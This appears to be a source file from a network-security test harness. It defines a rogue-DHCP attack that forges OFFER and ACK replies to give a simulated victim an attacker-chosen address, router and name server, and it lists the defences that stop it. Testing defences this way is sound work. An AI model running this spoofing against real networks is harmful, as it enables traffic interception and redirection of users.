// SPDX-License-Identifier: Apache-2.0
import { broadcast, bytes, dhcpReply, mac } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { contains } from "../arrives.ts";
import { anyOf } from "../evidence.ts";
import type { Field, Station } from "../field.ts";

const OFFERED = "10.77.0.250";
const [TRANSACTION, KIND] = [46, 284]; // bytes of a frame: the DHCP header's, and the value of its first option, the kind of message
const [DISCOVER, REQUEST, OFFER, ACK] = [1, 3, 2, 5] as const;
const MAGIC_AT = 278;
const MAGIC = bytes(0x63, 0x82, 0x53, 0x63, 53, 1);

/** Answers what the client asks. The number of the question is told to it even where it hears none: a better attacker than there can be. */
async function leased({ attacker, router }: Field, client: Station): Promise<boolean> {
  const answer = (frame: Uint8Array): void => {
    const kind = frame[KIND];
    if ((kind !== DISCOVER && kind !== REQUEST) || !contains(frame.subarray(MAGIC_AT, KIND), MAGIC)) return;
    const transaction = frame.slice(TRANSACTION, TRANSACTION + 4);
    for (const to of [client.mac, broadcast]) for (const server of [attacker.v4, router.v4]) {
      void attacker.send(dhcpReply({ from: attacker.mac, to }, kind === DISCOVER ? OFFER : ACK, server, OFFERED, client.mac, transaction));
    }
  };
  const stops = [attacker, router].map((party) => party.watch((frame) => contains(frame.subarray(6, 12), mac(client.mac)) && answer(frame)));
  const { stdout, stderr } = await client.run(["busybox", "udhcpc", "-f", "-n", "-q", "-t", "2", "-T", "1", "-i", client.device, "-s", "/bin/true"]);
  for (const stop of stops) stop();
  return `${stdout}${stderr}`.includes(`lease of ${OFFERED} obtained`);
}

export const rogueDhcp: Attack = {
  slug: "rogue-dhcp",
  needs: "a place on the network; a victim that asks for an address",
  gains: "gives the victim an address, a router and a name server of its choice",
  stoppedBy: "guard: stations send nothing as DHCP servers; group: a question goes upstream only",
  run: (field) => anyOf(field, { victim: leased(field, field.victim), distant: leased(field, field.distant) }),
};
